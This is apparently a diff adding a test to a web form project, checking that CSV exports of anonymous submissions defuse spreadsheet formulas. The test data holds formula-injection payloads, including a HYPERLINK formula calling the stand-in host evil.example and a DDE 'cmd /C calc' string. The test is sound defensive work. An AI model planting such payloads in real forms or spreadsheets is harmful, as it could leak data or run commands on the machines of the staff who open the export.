@@ -330,3 +330,25 @@ def test_feedback_and_registrations_count_apart(settings, rf):
     assert rate_limited(visitor, "registration") is False
     assert rate_limited(visitor, "registration") is True
     assert rate_limited(visitor, "feedback") is False
+
+
+def test_csv_export_defuses_spreadsheet_formulas(post, page, client, admin_user):
+    """Issue 13, finding 9: what anonymous visitors type never runs as a formula when staff
+    open the export in a spreadsheet (as in the registrations' CSV)."""
+    import csv
+
+    attacks = {
+        "barrier": '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
+        "page_url": "+1+1",
+        "name": "-2+3",
+    }
+    post(page.url, {**VALID, **attacks})
+    post(page.url, {**VALID, "barrier": "@SUM(1+1)*cmd|' /C calc'!A0", "name": "\tTab"})
+    client.force_login(admin_user)
+    export = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv")
+    rows = list(csv.reader(export.getvalue().decode().splitlines()))
+    cells = [cell for row in rows[1:] for cell in row]
+    for typed in (*attacks.values(), "@SUM(1+1)*cmd|' /C calc'!A0"):
+        assert "'" + typed in cells, typed
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert VALID["page_url"] in cells and "erika@example.org" in cells  # the rest unchanged
